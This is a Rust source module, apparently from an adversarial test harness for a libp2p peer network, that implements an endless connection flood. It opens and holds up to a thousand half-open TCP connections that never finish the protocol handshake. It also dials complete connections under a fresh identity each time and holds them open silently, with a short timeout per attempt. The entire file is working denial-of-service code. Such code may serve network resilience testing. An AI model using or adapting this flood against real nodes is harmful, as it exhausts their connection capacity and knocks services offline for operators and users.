//! A flood of connections: half-open ones, which never finish the handshake, and complete ones under fresh identities.

use std::{
    convert::Infallible,
    io,
    net::{Ipv4Addr, SocketAddr},
    pin::Pin,
    task::Poll,
    time::Duration,
};

use discovery::{Identity, Multiaddr};
use libp2p::{
    Transport as _,
    core::{
        Endpoint,
        muxing::{StreamMuxer as _, StreamMuxerBox},
        transport::{DialOpts, ListenerId, PortUse},
    },
    multiaddr::Protocol,
};
use tokio::{
    net::{TcpSocket, TcpStream},
    task::JoinSet,
    time,
};

use super::{
    plan::{Attack, AttackPlan, Tally},
    transport,
};

/// Connections of either kind held open; further ones are closed at once.
const HELD_MAX: usize = 1000;
/// How long one attempt may take.
const PATIENCE: Duration = Duration::from_secs(2);

/// Opens connections, one after the other, for ever.
pub async fn flood(plan: &AttackPlan, tally: &Tally) -> anyhow::Result<Infallible> {
    let mut complete: JoinSet<()> = JoinSet::new();
    let mut half_open: Vec<TcpStream> = Vec::new();
    loop {
        let mut has_opened = false;
        for target in &plan.targets {
            if let Some(muxer) = connect(target, plan.from).await? {
                tally.sent(Attack::Connections);
                has_opened = true;
                while complete.try_join_next().is_some() {}
                if complete.len() < HELD_MAX {
                    complete.spawn(hold(muxer));
                }
            } else {
                tally.count(|deeds| deeds.thrown_out += 1);
            }
            let tcp = async { open_half(socket_of(target)?, plan.from).await.ok() };
            if let Ok(Some(stream)) = time::timeout(PATIENCE, tcp).await {
                tally.sent(Attack::Connections);
                has_opened = true;
                half_open.push(stream);
            }
        }
        half_open.truncate(HELD_MAX);
        if !has_opened {
            // Everybody refuses: a pause keeps the loop from spinning on errors of the system.
            time::sleep(Duration::from_millis(1)).await;
        }
    }
}

/// Keeps a connection alive until the other side closes it, and sends nothing on it.
async fn hold(mut muxer: StreamMuxerBox) {
    std::future::poll_fn(|context| {
        while let Poll::Ready(stream) = Pin::new(&mut muxer).poll_inbound(context) {
            if stream.is_err() {
                return Poll::Ready(());
            }
        }
        Pin::new(&mut muxer).poll(context).map(drop)
    })
    .await;
}

/// A connection that stays without a handshake.
async fn open_half(target: SocketAddr, from: Ipv4Addr) -> io::Result<TcpStream> {
    let socket = TcpSocket::new_v4()?;
    socket.bind((from, 0).into())?;
    socket.connect(target).await
}

/// A complete connection under a fresh identity; `None` when it is refused.
async fn connect(target: &Multiaddr, from: Ipv4Addr) -> anyhow::Result<Option<StreamMuxerBox>> {
    let keypair = Identity::generate()?.keypair()?;
    let Ok(mut transport) = transport::build(&keypair) else { return Ok(None) };
    // It is dialled from where it listens.
    if transport.listen_on(ListenerId::next(), Multiaddr::from(from).with(Protocol::Tcp(0))).is_err() {
        return Ok(None);
    }
    let options = DialOpts { role: Endpoint::Dialer, port_use: PortUse::Reuse };
    let Ok(dial) = transport.dial(target.clone(), options) else { return Ok(None) };
    // The transport must be driven while it dials; QUIC does not get anywhere otherwise.
    let driven = async {
        let mut dial = std::pin::pin!(dial);
        let mut transport = std::pin::pin!(transport);
        std::future::poll_fn(|context| {
            while transport.as_mut().poll(context).is_ready() {}
            dial.as_mut().poll(context)
        })
        .await
    };
    Ok(time::timeout(PATIENCE, driven).await.ok().and_then(Result::ok).map(|(_, muxer)| muxer))
}

fn socket_of(address: &Multiaddr) -> Option<SocketAddr> {
    let mut parts = address.iter();
    let ip = match parts.next()? {
        Protocol::Ip4(ip) => ip.into(),
        Protocol::Ip6(ip) => std::net::IpAddr::from(ip),
        _ => return None,
    };
    match parts.next()? {
        Protocol::Tcp(port) => Some(SocketAddr::new(ip, port)),
        _ => None,
    }
}
